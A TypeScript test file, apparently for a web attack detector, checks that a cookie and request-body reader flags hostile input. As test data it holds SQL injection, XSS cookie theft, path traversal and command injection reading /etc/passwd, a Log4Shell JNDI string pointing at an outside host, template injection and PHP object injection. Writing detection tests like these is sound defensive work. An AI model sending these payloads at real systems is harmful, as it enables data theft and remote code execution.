import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { createRecordView, type RecordView } from '../../../collect/record-view.ts';
import { inspectCarried } from '../../../request/carried/inspect-carried.ts';
import { CarriedReader } from './carried-reader.ts';

/** A view of a record that carries these, each character one byte. */
function viewOf(...parts: readonly (readonly [part: string, text: string])[]): RecordView {
  const view = createRecordView();
  view.buffer = Buffer.from(`"${parts.map(([, text]) => text).join(';')}"`, 'latin1');
  let from = 1;
  for (const [part, text] of parts) {
    view.carried.add(part, from, from + text.length);
    from += text.length + 1;
  }
  return view;
}

const READ = "abc' UNION SELECT email,name FROM members LIMIT 3,1-- -";

describe('a carried reader', () => {
  it('keeps what is hostile, and nothing of the rest', () => {
    const reader = new CarriedReader();
    const view = viewOf(['Cookie', `PHPSESSID=9f8e7d6c; track=${READ}; _ga=GA1.2.3.4`], ['Body', 'q=1']);
    const { signs, text } = reader.read(view);
    expect(signs.map(({ attack }) => attack)).toContain('sqli');
    expect(text).toBe(`Cookie: track=${READ}`);
  });

  it('gives rules the cookies and the body as a request has them', () => {
    const reader = new CarriedReader();
    const view = viewOf(['Cookie', 'a=1; b=2'], ['Cookie: c', '3'], ['Body: d', '4'], ['Body: e', '5']);
    expect(reader.textOf(view, 'Cookie')).toBe('a=1; b=2; c=3');
    expect(reader.textOf(view, 'Body')).toBe('d=4&e=5');
    expect(reader.textOf(viewOf(['X-Forwarded-For', '192.0.2.1']), 'Cookie')).toBe('');
  });

  it('keeps one line for each, whatever they hold', () => {
    const { text } = new CarriedReader().read(
      viewOf(['Body: a', `x'\nUNION\r\n${READ}`], ['Cookie: b', READ]),
    );
    expect(text).toBe(`Body: a=x'%0AUNION%0D%0A${READ}\nCookie: b=${READ}`);
  });

  it('accuses nobody of the markup that who designs a shop sends, but of the same from anybody else', () => {
    const view = viewOf(['Body', 'html=%3Cscript%3Ealert(document.cookie)%3C/script%3E']);
    expect(new CarriedReader().read(view, 'admin.change').signs).toEqual([]);
    expect(new CarriedReader().read(view, 'customer.register').signs).not.toEqual([]);
    expect(new CarriedReader().read(viewOf(['Body', `q=${READ}`]), 'admin.change').signs).not.toEqual([]);
  });

  it('says of every text what the inspector says, however often it comes', () => {
    const piece = fc.constantFrom(
      ...['a=1', 'b="x"', `c=${READ}`, 'd=%7B%22a%22:1%7D', 'e=<script>alert(1)</script>', '192.0.2.1, ::1'],
      ...[
        '/etc/passwd',
        'f=../../../etc/passwd',
        'g=;cat /etc/passwd',
        '%3B',
        '; ',
        ' ',
        '+',
        '"',
        "' or 1=1-- -",
      ],
      ...['${jndi:ldap://203.0.113.9/a}', 'cat /etc/passwd', 'id=1 and sleep(5)', '{{7*7}}', 'O:1:"A":0:{}'],
    );
    const reader = new CarriedReader();
    fc.assert(
      fc.property(
        fc.constantFrom('Cookie', 'Cookie: a', 'Body', 'Body: a', 'X-Forwarded-For'),
        fc.array(piece, { minLength: 1, maxLength: 5 }).map((pieces) => pieces.join('; ')),
        (part, text) => {
          const isHostile = inspectCarried(part, text).length > 0;
          for (let times = 0; times < 3; times++) {
            expect(reader.isHostile(viewOf([part, text]))).toBe(isHostile);
            expect(reader.read(viewOf([part, text])).signs.length > 0).toBe(isHostile);
          }
        },
      ),
      { numRuns: 500 },
    );
  });
});
